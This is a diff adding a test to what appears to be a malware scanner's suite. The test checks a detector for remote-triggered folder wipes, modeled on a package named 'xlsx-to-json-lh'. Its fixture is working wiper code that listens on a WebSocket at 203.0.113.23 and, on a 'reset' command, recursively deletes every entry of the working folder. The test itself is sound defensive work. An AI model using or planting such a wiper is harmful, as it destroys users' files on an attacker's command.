@@ -1222,6 +1222,26 @@ module.exports = {};
     expect(test.ids).not.toContain('wiper/wipe');
   });
 
+  it('every entry of the working folder deleted whole on a command from a socket is a wipe; emptying a build folder that way is not (xlsx-to-json-lh)', () => {
+    const sync = (root: string) => `const fs = require('fs'); const path = require('path');
+function wipe(dir) {
+  for (const entry of fs.readdirSync(dir)) {
+    try { fs.rmSync(path.join(dir, entry), { recursive: true, force: true }); } catch (_) {}
+  }
+}
+function connect() {
+  const ws = new (require('ws'))('ws://203.0.113.23:8080/');
+  ws.on('message', (raw) => { const msg = JSON.parse(String(raw)); if (msg.command === 'reset') wipe(${root}); });
+}
+connect();
+module.exports = {};
+`;
+    const r = scan({ 'index.js': sync('process.cwd()') }, { main: 'index.js' });
+    expect(r.findings.find((f) => f.detector === 'wiper')?.data?.what).toMatch(/deletes every file under \$CWD .*deletes each entry of a folder whole/);
+    const build = scan({ 'index.js': sync("path.join(process.cwd(), 'dist')") }, { main: 'index.js' });
+    expect(build.ids).not.toContain('wiper/wipe');
+  });
+
   it('a cleaner walking a folder its caller names or its own cache folder is no wiper', () => {
     const named = scan({ 'index.js': `${walk('fs.unlinkSync(p)')}module.exports = (dir) => wipe(dir);\n` });
     expect(named.ids).not.toContain('wiper/wipe');
